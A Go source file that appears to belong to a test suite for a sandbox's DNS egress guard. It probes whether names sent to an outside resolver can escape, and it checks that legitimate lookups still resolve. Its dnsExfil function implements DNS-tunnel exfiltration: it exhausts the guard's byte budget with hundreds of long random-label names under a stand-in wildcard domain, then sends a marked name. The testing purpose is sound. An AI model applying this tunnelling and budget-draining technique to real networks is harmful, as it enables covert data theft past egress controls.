package main

import (
	"crypto/rand"
	"fmt"
	"strings"
	"time"

	"github.com/miekg/dns"
)

// dnsQuery asks server (ip:port) over network ("udp"/"tcp") for name;
// any answer record is the world's (the supervisor refuses denied names).
func dnsQuery(network, server, name string, qtype uint16) vectorFunc {
	return func(r *Result) {
		fq := dns.Fqdn(fill(r, name))
		r.Queries = append(r.Queries, Query{Qname: fq, Qtype: dns.TypeToString[qtype]})
		m := new(dns.Msg)
		m.SetQuestion(fq, qtype)
		m.RecursionDesired = true
		c := &dns.Client{Net: network, Timeout: 2 * time.Second}
		resp, _, err := c.Exchange(m, server)
		if err != nil {
			r.note("%s %s: %v", network, server, err)
			return
		}
		r.note("rcode %s, %d answers", dns.RcodeToString[resp.Rcode], len(resp.Answer))
		for _, a := range resp.Answer {
			switch rr := a.(type) {
			case *dns.A, *dns.AAAA, *dns.TXT, *dns.CNAME:
				r.escape("answer from the world: %s", rr.String())
			}
		}
	}
}

// exfilName is a long name of random labels under an allowed wildcard:
// the leading labels could carry data to the wildcard's authority.
func exfilName(prefix, suffix string) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 3*63)
	_, _ = rand.Read(b)
	var labels []string
	for i := 0; i < 3; i++ {
		l := make([]byte, 63)
		for j := range l {
			l[j] = alphabet[int(b[i*63+j])%len(alphabet)]
		}
		labels = append(labels, string(l))
	}
	return prefix + "." + strings.Join(labels, ".") + "." + suffix
}

// exfilBudgetNames bounds the filler names dnsExfil sends: 400 names of
// ~200 bytes are 80 KB, twenty times the guard's default budget.
const exfilBudgetNames = 400

// dnsExfil tries to carry data out in names under an allowed wildcard
// (*.exfil.test, which nothing else uses). The exfiltration guard admits
// a bounded budget of new name bytes per rule per minute, so the attacker
// first spends it with filler names (no marker: they may reach the
// world's resolver, as the budget allows), then sends the marked name,
// which must be refused and audited (exfil_budget) and never reach the
// world. No refusal within exfilBudgetNames names is an escape: the
// channel is unbounded.
func dnsExfil(r *Result) {
	c := &dns.Client{Net: "udp", Timeout: 2 * time.Second}
	answered := 0
	for i := 0; ; i++ {
		if i == exfilBudgetNames {
			r.escape("no refusal after %d names (%d answered): the wildcard carries data without bound", i, answered)
			return
		}
		m := new(dns.Msg)
		m.SetQuestion(dns.Fqdn(exfilName(fmt.Sprintf("fill%d", i), "exfil.test")), dns.TypeA)
		resp, _, err := c.Exchange(m, worldV4+":53")
		if err != nil {
			r.note("filler %d: %v", i, err)
			continue
		}
		if resp.Rcode == dns.RcodeRefused {
			r.note("budget spent after %d names answered", answered)
			break
		}
		answered++
	}
	dnsQuery("udp", worldV4+":53", exfilName(marker(r.Vector), "exfil.test"), dns.TypeA)(r)
}

// controlDNS: the legitimate path must work, or the suite proves nothing.
func controlDNS(qtype uint16) vectorFunc {
	return func(r *Result) {
		r.Queries = append(r.Queries, Query{Qname: "allowed.test.", Qtype: dns.TypeToString[qtype]})
		m := new(dns.Msg)
		m.SetQuestion("allowed.test.", qtype)
		m.RecursionDesired = true
		resp, _, err := (&dns.Client{Timeout: 2 * time.Second}).Exchange(m, worldV4+":53")
		if err != nil || len(resp.Answer) == 0 {
			r.Observed = "error"
			r.note("allowed.test did not resolve: %v %v", err, resp)
			return
		}
		r.Observed = allowed
		r.note("%s", resp.Answer[0].String())
	}
}
